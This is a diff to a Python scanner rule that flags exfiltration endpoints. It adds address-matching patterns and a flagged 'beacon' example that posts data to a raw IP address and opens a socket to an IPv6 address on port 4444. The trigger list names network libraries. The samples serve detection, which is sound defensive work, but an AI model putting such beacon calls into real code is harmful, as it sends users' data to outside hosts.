@@ -259,9 +259,17 @@ class ExfiltrationEndpoint(Rule):
     hint = "remove it; if the host is the project's own, list it in allow-hosts"
     triggers = (
         "requests", "httpx", "aiohttp", "urllib", "urllib3", "urlopen", "socket", "smtplib",
-        "ftplib", "imaplib", "poplib", "telnetlib", "http", "https", "websocket", "websockets",
+        "ftplib", "imaplib", "poplib", "telnetlib", "websocket", "websockets",
         "gethostbyname", "gethostbyname_ex", "getaddrinfo", "resolver",
     )  # fmt: skip
+    # not `http` / `https`, in every docstring's links: a destination this rule flags names a
+    # host of the table or a raw address, and the line that calls it is kept for holding it
+    # (or a name bound on a line that does)
+    trigger_patterns = (
+        "|".join(re.escape(host) for host in ENDPOINTS),
+        r"\b\d{1,3}(?:\.\d{1,3}){3}\b",  # IPv4
+        r"\b[0-9A-Fa-f]{1,4}:[0-9A-Fa-f:]*:[0-9A-Fa-f]{1,4}\b",  # IPv6
+    )
     options = {"extra-hosts": (), "allow-hosts": ()}
     examples = (
         Bad(
@@ -323,6 +331,12 @@ class ExfiltrationEndpoint(Rule):
             "import requests\n\nrequests.get('http://[2a05:d018:7f1::2c]:8443/in', timeout=5)\n",
             ((3, 1),),
             why="a raw public IPv6 address",
+        ),
+        Bad(
+            "def beacon(client, sock):\n    client.post('http://45.61.137.20/in', data=b'x')\n"
+            "    sock.connect(('2a05:d018:7f1::2c', 4444))\n",
+            ((2, 5), (3, 5)),
+            why="methods of objects we cannot resolve, in a file whose only trigger is the address",
         ),
         Bad(
             "import requests\n\nrequests.get('https://bit.ly/3xYz', timeout=5)\n",
